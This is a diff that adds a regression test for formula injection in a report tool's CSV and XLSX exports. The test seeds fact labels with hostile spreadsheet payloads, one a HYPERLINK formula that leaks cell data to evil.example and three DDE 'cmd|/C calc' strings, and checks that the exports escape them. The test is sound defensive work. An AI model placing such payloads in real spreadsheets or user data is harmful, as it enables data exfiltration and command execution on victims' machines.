@@ -437,3 +437,42 @@ def test_version_is_printed() -> None:
 
     result = CliRunner().invoke(main, ["--version"])
     assert result.exit_code == 0 and result.output.strip() == f"baocao, version {version('baocao')}"
+
+
+# ── formula injection through exports (issue 15, item 1) ──────────────────────────────────
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_csv_and_xlsx_exports_never_carry_a_live_formula(db_url: str, tmp_path: Path) -> None:
+    import csv
+    import io
+
+    import openpyxl
+
+    ingest([SEED_004], db=db_url, workers=0, quiet=True)
+    with session_scope(db_url) as session:
+        alice = UserRow(name="alice", role="reviewer", password_hash="x", allowed_places=[])
+        session.add(alice)
+        session.flush()
+        facts = session.scalars(select(FactRow).where(FactRow.kind == "count")
+                                .order_by(FactRow.id).limit(len(HOSTILE))).all()
+        for fact, hostile in zip(facts, HOSTILE, strict=True):
+            correct_fact(session, fact, "edit", {"label": hostile}, actor="alice",
+                         user_id=alice.id, reason=hostile)
+    runner = CliRunner()
+    out = runner.invoke(main, ["export", "--db", db_url, "--format", "csv", "--out", "-"]).output
+    rows = list(csv.DictReader(io.StringIO(out)))
+    cells = [v for r in rows for v in r.values() if v]
+    for hostile in HOSTILE:
+        assert "'" + hostile in cells            # shown as the text it is
+        assert hostile not in cells               # never a cell a spreadsheet would run
+    assert not any(v.startswith(("=", "+", "@")) for v in cells)
+    assert runner.invoke(main, ["export", "--db", db_url, "--format", "xlsx", "--out",
+                                str(tmp_path / "x.xlsx")]).exit_code == 0
+    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["facts"]
+    values = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    assert not [c for c in values if c.data_type == "f"]
+    written = {c.value for c in values}
+    assert set(HOSTILE) <= written                # text cells keep the text, typed as text
